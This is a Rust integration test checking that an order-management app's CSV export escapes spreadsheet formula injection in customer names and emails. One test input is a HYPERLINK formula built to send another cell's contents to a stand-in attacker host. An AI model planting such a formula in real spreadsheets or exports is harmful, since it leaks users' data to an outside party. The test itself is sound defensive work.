//! CSV formula injection: what staff typed into a customer never becomes a
//! live formula in the orders export.

use orderdesk::commands::register_customer::{self};
use rocket::http::Status;

use crate::support::helpers::{TestApp, ctx};

async fn customer_named(app: &TestApp, email: &str, name: &str) -> i64 {
    let input = crate::support::inputs::customer(email, name, "");
    register_customer::register_customer(&mut *app.conn().await, input, &ctx())
        .await
        .unwrap()
        .id
}

#[tokio::test]
async fn the_orders_export_turns_formula_cells_into_text() {
    let app = TestApp::spawn().await;
    let evil = customer_named(
        &app,
        "-x@example.com",
        r#"=HYPERLINK("http://evil.example/?"&C3,"x")"#,
    )
    .await;
    let plain = customer_named(&app, "ada@example.com", "Ada Lovelace").await;
    let at = customer_named(&app, "+b@example.com", "@SUM(1+1)").await;
    app.product("TEE", "10", 50).await;
    let o1 = app.place(evil, &[("TEE", 1)]).await.unwrap().id;
    let o2 = app.place(plain, &[("TEE", 1)]).await.unwrap().id;
    let o3 = app.place(at, &[("TEE", 1)]).await.unwrap().id;
    app.refresh().await;
    let (client, _) = app.signed_in("viewer").await;

    let response = client.get("/orders/export.csv").dispatch().await;

    assert_eq!(response.status(), Status::Ok);
    let text = response.into_string().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let mut rows: Vec<(i64, String, String)> = reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            (r[0].parse().unwrap(), r[2].to_owned(), r[3].to_owned())
        })
        .collect();
    rows.sort();
    assert_eq!(
        rows,
        vec![
            (
                o1,
                r#"'=HYPERLINK("http://evil.example/?"&C3,"x")"#.to_owned(),
                "'-x@example.com".to_owned()
            ),
            (o2, "Ada Lovelace".to_owned(), "ada@example.com".to_owned()),
            (o3, "'@SUM(1+1)".to_owned(), "'+b@example.com".to_owned()),
        ]
    );
}
